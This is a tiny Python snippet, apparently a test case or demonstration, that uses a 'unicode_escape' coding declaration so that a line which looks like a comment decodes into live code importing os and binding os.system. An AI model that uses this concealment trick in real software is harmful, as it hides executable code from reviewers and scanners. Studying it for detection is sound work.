# coding: unicode_escape
#\x0aimport os\x0aX=os.system